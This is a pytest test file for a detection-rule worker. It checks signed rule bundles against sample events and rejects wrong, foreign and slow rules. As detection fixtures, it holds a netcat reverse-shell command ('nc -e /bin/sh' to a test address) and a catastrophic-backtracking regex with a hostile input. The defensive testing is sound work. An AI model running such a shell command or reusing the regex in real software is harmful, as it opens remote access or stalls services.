"""Rules are tried on their own samples in a process of their own; what ends it is a verdict."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

import pytest
from tests.simulators.signing import envelope, signer

from vedette.codec import bundle as bundle_codec
from vedette.codec import rule_samples
from vedette.daemon import rules_worker
from vedette.daemon.rules_worker import Verdict
from vedette.errors import DeviceError
from vedette.model.finding import Severity
from vedette.model.rule import Bundle, Correlation, Match, Rule, Threshold
from vedette.model.sample import RuleSample, SampleEvent, SampleSet

CATEGORY = "process_creation"
RULE = Rule(
    "shell", "A shell", "An Author", Severity.HIGH, (), CATEGORY,
    Match("CommandLine", "contains", "nc -e", is_cased=False), (), True,
)  # fmt: skip
CHAIN = Correlation(
    "chain", "A chain", "An Author", Severity.HIGH, (), "event_count", ("shell",), (), 60,
    (Threshold("gte", 2),),
)  # fmt: skip
HIT = SampleEvent("", 0.0, {"CommandLine": "nc -e /bin/sh 192.0.2.1 4444"})
MISS = SampleEvent("", 1.0, {"CommandLine": "ls"})


def sample(event: SampleEvent, *, wanted: bool, rule: str = "shell", times: int = 1) -> RuleSample:
    events = tuple(event._replace(at_s=float(n)) for n in range(times))
    return RuleSample("execution/shell.match.yml:3", (rule,), wanted, events)


GOOD = (
    sample(HIT, wanted=True), sample(MISS, wanted=False),
    sample(HIT, wanted=True, rule="chain", times=2),
    sample(HIT, wanted=False, rule="chain"),
)  # fmt: skip


def tried(
    folder: Path, samples: Sequence[RuleSample] | None, *, rules: tuple[Rule, ...] = (RULE,),
    of: str = "",
) -> Verdict:  # fmt: skip
    payload = bundle_codec.encode(Bundle("test", 1, 1, 2**40, rules, (), "", (CHAIN,)))
    (folder / "bundle").write_bytes(envelope(bundle_codec.PAYLOAD_TYPE, payload, (signer(1),)))
    beside = None
    if samples is not None:
        beside = folder / "samples"
        digest = of or bundle_codec.decode(payload).digest
        beside.write_bytes(rule_samples.encode(SampleSet(digest, tuple(samples))))
    return rules_worker.run(folder / "bundle", beside, "")


def test_rules_that_find_what_they_should_pass(tmp_path: Path) -> None:
    found = tried(tmp_path, GOOD)
    assert (found.samples, found.reason) == (4, "")


def test_a_bundle_without_samples_is_tried_for_what_it_is(tmp_path: Path) -> None:
    assert tried(tmp_path, None)[2:] == (False, "")


@pytest.mark.parametrize(
    ("wrong", "words"),
    [
        (sample(MISS, wanted=True), "expected shell to match"),
        (sample(HIT, wanted=False), "expected shell not to match"),
        (sample(HIT, wanted=True, rule="chain"), "expected chain to match"),
        (sample(HIT, wanted=True, rule="gone"), "expected a rule of the bundle, got 'gone'"),
    ],
    ids=["misses", "finds too much", "a correlation that is not met", "a rule that is not there"],
)
def test_one_sample_that_goes_wrong_refuses_them(
    tmp_path: Path, wrong: RuleSample, words: str
) -> None:
    found = tried(tmp_path, (*GOOD, wrong))
    assert not found.is_limit
    assert found.reason == f"execution/shell.match.yml:3: {words}"


def test_the_samples_of_another_bundle_prove_nothing(tmp_path: Path) -> None:
    assert "expected the samples of" in tried(tmp_path, GOOD, of="0" * 64).reason


def test_a_rule_that_takes_too_long_for_its_sample_is_refused_as_slow(tmp_path: Path) -> None:
    slow = Rule(
        "slow", "Slow", "An Author", Severity.LOW, (), CATEGORY,
        Match("CommandLine", "re", "(a|aa)+$", is_cased=True), (), True,
    )  # fmt: skip
    hostile = SampleEvent("", 0.0, {"CommandLine": "a" * 29 + "!"})
    found = tried(tmp_path, (sample(hostile, wanted=False, rule="slow"),), rules=(RULE, slow))
    assert found.is_limit
    assert "slow took" in found.reason


def test_a_file_that_is_no_bundle_is_refused_with_the_reason(tmp_path: Path) -> None:
    (tmp_path / "bundle").write_bytes(b"{}")
    assert "it cannot be read" in rules_worker.run(tmp_path / "bundle", None, "").reason


def test_a_file_that_is_gone_is_no_verdict(tmp_path: Path) -> None:
    with pytest.raises(DeviceError, match="expected a file to try, found none"):
        rules_worker.run(tmp_path / "bundle", None, "")
